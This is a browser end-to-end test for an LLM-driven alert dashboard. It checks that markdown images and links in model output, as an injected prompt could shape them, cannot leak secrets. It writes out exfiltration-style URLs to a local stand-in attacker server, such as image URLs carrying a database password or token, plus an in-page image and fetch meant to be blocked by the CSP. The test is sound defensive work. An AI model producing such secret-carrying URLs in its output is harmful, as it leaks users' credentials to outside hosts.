import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { submitAlert, waitStatus } from "../e2e/scenario-support.ts";
import { DEMO_ALERT, ROOT } from "../e2e/support.ts";
import { type DashboardRig, startDashboardRig } from "./support.ts";

const SCRIPT_TEMPLATE = resolve(ROOT, "test/browser/fixtures/exfiltration-llm-script.yaml");

/** A loopback HTTP server on a port of its own (another origin): what an attacker would run. */
interface Attacker {
  /** `http://127.0.0.1:<port>` */
  url: string;
  /** `127.0.0.1:<port>` */
  host: string;
  /** Every request it received (method and URL). */
  received: string[];
  close(): Promise<void>;
}

async function startAttacker(): Promise<Attacker> {
  const received: string[] = [];
  const server = createServer((req, res) => {
    received.push(`${req.method} ${req.url}`);
    res.writeHead(200, { "content-type": "text/plain", "access-control-allow-origin": "*" });
    res.end("ok");
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    host: `127.0.0.1:${port}`,
    received,
    close: () => new Promise<void>((r) => server.close(() => r())),
  };
}

/** A `securitypolicyviolation` event, as the page reported it. */
interface Violation {
  directive: string;
  blocked: string;
  source: string;
}

/**
 * Nothing leaves through the dashboard: the whole system runs a session whose final analysis and
 * chat answer (LLM output, as an injected prompt could shape it) carry images whose URLs hold
 * secrets and links to another origin. In Chromium, the rendered markdown shows a placeholder
 * for each image and the real host of each link, no request goes anywhere but the dashboard's
 * own origin and the relay, and the Content-Security-Policy refuses what the markdown filter
 * would miss, without getting in the way of any page of the dashboard.
 */
describe("nothing leaves through the dashboard", () => {
  let rig: DashboardRig;
  let attacker: Attacker;
  let scriptDir = "";
  let sessionId = "";
  /** Every HTTP request and WebSocket the page opened, by URL. */
  const requests: string[] = [];
  const sockets: string[] = [];
  const violations: Violation[] = [];

  beforeAll(async () => {
    attacker = await startAttacker();
    scriptDir = mkdtempSync(join(tmpdir(), "tarsy-exfiltration-"));
    const script = join(scriptDir, "llm-script.yaml");
    writeFileSync(
      script,
      readFileSync(SCRIPT_TEMPLATE, "utf8").replaceAll("ATTACKER", attacker.url),
    );
    rig = await startDashboardRig({ llmScriptPath: script });
    const { page } = rig;
    page.on("request", (r) => requests.push(r.url()));
    page.on("websocket", (ws) => sockets.push(ws.url()));
    await page.exposeFunction("reportViolation", (v: Violation) => violations.push(v));
    await page.addInitScript(() => {
      document.addEventListener("securitypolicyviolation", (e) =>
        (window as unknown as { reportViolation(v: Violation): void }).reportViolation({
          directive: e.effectiveDirective,
          blocked: e.blockedURI,
          source: `${e.sourceFile}:${e.lineNumber}`,
        }),
      );
    });
    sessionId = await submitAlert(rig.system, DEMO_ALERT.alert_type, DEMO_ALERT.data);
    await waitStatus(rig.system, sessionId, ["completed"], 120_000);
  }, 300_000);
  afterAll(async () => {
    await rig?.stop();
    await attacker?.close();
    if (scriptDir) rmSync(scriptDir, { recursive: true, force: true });
  }, 60_000);

  it("shows a placeholder for each external image and each link's real host, and nothing is fetched from elsewhere", async () => {
    const { page } = rig;
    await page.goto(rig.url(`/sessions/${sessionId}`));
    const analysis = page.getByRole("region", { name: "Final analysis" });
    await analysis.getByRole("heading", { name: "Root cause" }).waitFor({ timeout: 30_000 });

    // The images are gone, each named by a visible placeholder (the secret in its URL is shown,
    // not sent).
    for (const url of [
      `${attacker.url}/leak.png?d=analysis-secret-db-password`,
      `${attacker.url}/raw.png?d=analysis-secret-api-key`,
    ]) {
      await analysis.getByText(`[external image removed: ${url}]`, { exact: true }).waitFor();
    }
    expect(await analysis.locator("img").count()).toBe(0);

    // The link labelled "runbook" says where it goes, and opens apart from the dashboard.
    const runbookLink = { name: "runbook", exact: true };
    const runbook = analysis.getByRole("link", runbookLink);
    expect(await runbook.getAttribute("href")).toBe(`${attacker.url}/runbooks/payments`);
    expect(await runbook.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    expect(await runbook.getAttribute("target")).toBe("_blank");
    expect(
      await analysis.locator("p", { has: page.getByRole("link", runbookLink) }).textContent(),
    ).toBe(`Follow the runbook (${attacker.host}) to raise the limit.`);
    expect(await analysis.getByText(`(${attacker.host})`, { exact: true }).isVisible()).toBe(true);
    // A bare URL shows its target already: it opens apart too, with nothing added.
    const statusLink = { name: `${attacker.url}/status`, exact: true };
    const status = analysis.getByRole("link", statusLink);
    expect(await status.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    expect(
      await analysis.locator("p", { has: page.getByRole("link", statusLink) }).textContent(),
    ).toBe(`Status page: ${attacker.url}/status`);
    await rig.shot("markdown-external-content");

    // A chat answer is rendered the same way.
    await page.getByLabel("Ask a follow-up question").fill("When did it first fail?");
    await page.getByRole("button", { name: "Send" }).click();
    const chat = page.getByRole("region", { name: "Chat" });
    await chat
      .getByText(`[external image removed: ${attacker.url}/leak.png?d=chat-secret-token]`, {
        exact: true,
      })
      .waitFor({ timeout: 60_000 });
    const chatRunbookLink = { name: "the runbook", exact: true };
    const chatRunbook = chat.getByRole("link", chatRunbookLink);
    expect(await chatRunbook.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    expect(
      await chat.locator("p", { has: page.getByRole("link", chatRunbookLink) }).textContent(),
    ).toContain(`Details are in the runbook (${attacker.host}).`);
    expect(await chat.getByText(`(${attacker.host})`, { exact: true }).isVisible()).toBe(true);
    expect(await chat.locator("img").count()).toBe(0);

    // Nothing reached the attacker, and the page asked nothing of any origin but its own (REST,
    // assets, config) and the relay's (the WebSocket).
    expect(attacker.received).toEqual([]);
    const api = new URL(rig.url("/")).origin;
    const relay = new URL(rig.system.stack.wsUrl).origin;
    expect(requests.length).toBeGreaterThan(0);
    expect(requests.filter((url) => new URL(url).origin !== api)).toEqual([]);
    expect(sockets.length).toBeGreaterThan(0);
    expect(sockets.filter((url) => new URL(url).origin !== relay)).toEqual([]);
    expect(violations).toEqual([]);
  }, 120_000);

  it("loads every page of the dashboard under the policy without a violation", async () => {
    const { page } = rig;
    for (const path of [
      "/",
      `/sessions/${sessionId}`,
      `/sessions/${sessionId}/trace`,
      "/triage",
      "/submit",
      "/system",
      "/usage",
      "/memories",
    ]) {
      await page.goto(rig.url(path));
      await page.getByRole("heading", { level: 1 }).first().waitFor({ timeout: 30_000 });
      await page.waitForLoadState("networkidle");
      expect(violations, path).toEqual([]);
    }
    // The policy is in force (the page's styles, scripts and socket all work under it).
    const response = await page.goto(rig.url("/"));
    expect(response?.headers()["content-security-policy"]).toContain("img-src 'self' data:");
    await page.getByTestId("connection-status").getByText("Live").waitFor({ timeout: 30_000 });
  }, 120_000);

  it("refuses, by its policy alone, an image or a request to another origin put on the page", async () => {
    const { page } = rig;
    await page.goto(rig.url("/"));
    await page.getByRole("heading", { level: 1 }).first().waitFor();
    // What the markdown filter would have to miss: an image and a fetch straight from the page.
    const fetched = await page.evaluate(async (url) => {
      const img = document.createElement("img");
      img.src = `${url}/csp.png?d=img-secret`;
      document.body.append(img);
      try {
        await fetch(`${url}/csp?d=fetch-secret`);
        return "sent";
      } catch {
        return "refused";
      }
    }, attacker.url);
    expect(fetched).toBe("refused");
    await expect
      .poll(() => violations.map((v) => `${v.directive} ${v.blocked}`).sort())
      .toEqual([
        `connect-src ${attacker.url}/csp?d=fetch-secret`,
        `img-src ${attacker.url}/csp.png?d=img-secret`,
      ]);
    expect(attacker.received).toEqual([]);
  });
});
